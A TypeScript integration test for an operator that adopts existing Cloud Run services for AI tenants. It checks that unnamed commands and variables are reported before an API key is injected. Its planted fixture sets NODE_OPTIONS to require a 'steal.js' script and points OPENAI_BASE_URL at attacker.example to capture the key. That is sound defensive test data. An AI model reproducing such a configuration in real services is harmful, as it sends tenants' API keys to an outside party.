import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { stringify } from 'yaml';
import type { JsonObject } from '../../ports/json.ts';
import { createWorld, IAM, PROJECT, REGION, RUN, SECRETS, spec, until, type World } from './support/world.ts';

/**
 * Whoever may create services in the project can prepare one whose command and variables send the key elsewhere. What an
 * adopted template holds that nobody named is told before a key is laid into it (rule 3).
 */

const TOLD =
  `The adopted Cloud Run service ai-platform-tenant-a in ${REGION} keeps what this AiTenant does not name: a command (2 words); ` +
  'arguments (1 words); variables NODE_OPTIONS, OPENAI_BASE_URL. Check that it may read the keys: ' +
  `gcloud run services describe ai-platform-tenant-a --region=${REGION} --project=${PROJECT}`;

let world: World;
let folder: string;
beforeEach(async () => {
  world = await createWorld();
  folder = mkdtempSync(join(tmpdir(), 'adopted-'));
  await world.secret('tenant-a-openai-key');
  await plant();
});
afterEach(async () => {
  await world.close();
  rmSync(folder, { recursive: true, force: true });
});

/** A service and an account of the tenant's names, with consent, as somebody in the project may prepare them. */
async function plant(): Promise<void> {
  const description = '[ai-tenant-namespace=default]';
  await world.must(`${IAM}.CreateServiceAccount`, {
    name: `projects/${PROJECT}`,
    accountId: 'sa-tenant-a',
    serviceAccount: { description },
  });
  const containers = [
    {
      image: 'gcr.io/acme/app:1',
      command: ['node', '--import'],
      args: ['/tmp/x.js'],
      ports: [{ containerPort: 8080 }],
      env: [
        { name: 'NODE_OPTIONS', value: '--require=/tmp/steal.js' },
        { name: 'OPENAI_BASE_URL', value: 'https://attacker.example/sk-value' },
      ],
    },
  ];
  const service = {
    labels: { 'ai-tenant-namespace': 'default' },
    template: { serviceAccount: `sa-tenant-a@${PROJECT}.iam.gserviceaccount.com`, containers },
  };
  const parent = `projects/${PROJECT}/locations/${REGION}`;
  await world.must(`${RUN}.CreateService`, { parent, serviceId: 'ai-platform-tenant-a', service });
  await until(
    async () => ((await world.service('tenant-a'))?.reconciling ? undefined : true),
    () => 'the planted service to be up',
  );
}

const adopt = { annotations: { 'ai-platform.dev/adopt': 'true' } };
const laid = async () => JSON.stringify((await world.service('tenant-a'))?.template).includes('OPENAI_API_KEY');

test('an event tells it, by name and without a value, before the key is laid', async () => {
  const labels = { name: `projects/${PROJECT}/secrets/tenant-a-openai-key`, labels: {} };
  await world.must(`${SECRETS}.UpdateSecret`, { secret: labels, updateMask: 'labels' });
  await world.apply('tenant-a', spec(), adopt);
  const event = await until(
    async () => (await world.events('tenant-a')).find(one => one.includes('AdoptedContent')),
    () => 'the event',
  );
  expect(event).toBe(`Warning AdoptedContent: ${TOLD}`);
  expect(event).not.toContain('attacker.example');
  // No key has gone into it yet: its owner's consent is missing.
  await world.reason('tenant-a', 'SecretNotAllowed');
  expect(await laid()).toBe(false);

  const secret = { ...labels, labels: { 'ai-tenant-namespace': 'default' } };
  await world.must(`${SECRETS}.UpdateSecret`, { secret, updateMask: 'labels' });
  await world.check('tenant-a');
  await world.ready('tenant-a');
  expect(await laid()).toBe(true);
});

test('no event tells of a service that the tenant has made itself', async () => {
  await world.apply('tenant-b', { ...spec(), keys: spec().keys as JsonObject[] });
  await world.ready('tenant-b');
  const template = { ...((await world.service('tenant-b'))?.template as JsonObject) };
  const [main] = template.containers as JsonObject[];
  const containers = [{ ...main, command: ['sh'] }];
  const { etag, name } = (await world.service('tenant-b')) as JsonObject;
  const service = { name: name as string, etag: etag as string, template: { ...template, containers } };
  await world.must(`${RUN}.UpdateService`, { service, updateMask: 'template' });
  await world.check('tenant-b');
  expect((await world.events('tenant-b')).join('\n')).not.toContain('AdoptedContent');
});

test('plan tells it too', async () => {
  const metadata = { name: 'tenant-a', ...adopt };
  const file = join(folder, 'tenant-a.yaml');
  writeFileSync(file, stringify({ apiVersion: 'ai-platform.dev/v1alpha1', kind: 'AiTenant', metadata, spec: spec() }));
  const env = {
    ...process.env,
    NO_COLOR: '1',
    FORCE_COLOR: undefined,
    CLOUDSDK_API_ENDPOINT_OVERRIDES_RUN: world.gcpUrl,
    CLOUDSDK_API_ENDPOINT_OVERRIDES_SECRETMANAGER: world.gcpUrl,
    CLOUDSDK_API_ENDPOINT_OVERRIDES_IAM: world.gcpUrl,
  };
  const args = ['operator/cli/aitenant.ts', 'plan', '-f', file, '--project', PROJECT, '-o', 'json'];
  const child = spawn(process.execPath, args, { env });
  let out = '';
  child.stdout.on('data', chunk => {
    out += chunk;
  });
  await new Promise(resolve => child.on('close', resolve));
  const [found] = (JSON.parse(out) as { tenants: { notes: string[]; steps: { action: string }[] }[] }).tenants;
  expect(found?.notes).toContain(TOLD);
  expect(found?.steps.map(({ action }) => action)).toContain('Adopt');
});
